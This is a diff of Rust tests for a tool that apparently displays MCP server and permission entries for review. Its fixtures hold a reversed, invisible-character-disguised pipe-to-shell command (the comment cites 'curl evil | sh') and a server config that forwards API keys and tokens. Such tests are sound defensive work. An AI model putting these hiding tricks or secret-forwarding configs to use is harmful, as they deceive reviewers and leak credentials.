@@ -123,6 +123,47 @@ fn control_characters_are_shown_as_escapes() {
     assert!(shown.contains("\\u{1b}"), "{shown:?}");
 }
 
+/// Bidirectional overrides and invisible characters could make a command
+/// line read as something else (`curl evil | sh` shown reversed or split).
+#[test]
+fn direction_overrides_and_invisible_characters_are_shown_as_escapes() {
+    let s = sort(
+        "",
+        r#"
+[mcp.x]
+command = "sh"
+args = ["-c", "echo \u202Ehs | lru\u2066x\u200By\uFEFF"]
+[permissions]
+allow = ["bash(ls\u200F*)"]
+"#,
+    );
+    for held in &s.held {
+        let shown = held.to_string();
+        for c in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}', '\u{200f}'] {
+            assert!(!shown.contains(c), "{shown:?}");
+        }
+    }
+    let server = s.held.iter().find(|h| h.key == "mcp.x").unwrap();
+    assert!(server.to_string().contains("\\u{202e}"), "{server:?}");
+    // Ordinary text outside ASCII is left alone.
+    assert_eq!(printable("café — 日本"), "café — 日本");
+}
+
+/// `${NAME}` in a server entry hands it that variable's value.
+#[test]
+fn a_server_given_a_secret_variable_says_so() {
+    let s = sort(
+        "",
+        "[mcp.x]\ncommand = \"node\"\nargs = [\"s.js\", \"--k=${ANTHROPIC_API_KEY}\"]\n\
+         url = \"http://h/${HOME}\"\nheaders = { A = \"Bearer ${GITHUB_TOKEN}\" }\n",
+    );
+    let shown = s.held[0].to_string();
+    assert!(
+        shown.contains("secret environment variables ANTHROPIC_API_KEY, GITHUB_TOKEN"),
+        "{shown}"
+    );
+}
+
 #[test]
 fn every_mode_is_ranked() {
     let mut ranks: Vec<u8> = Mode::ALL.into_iter().map(strictness).collect();
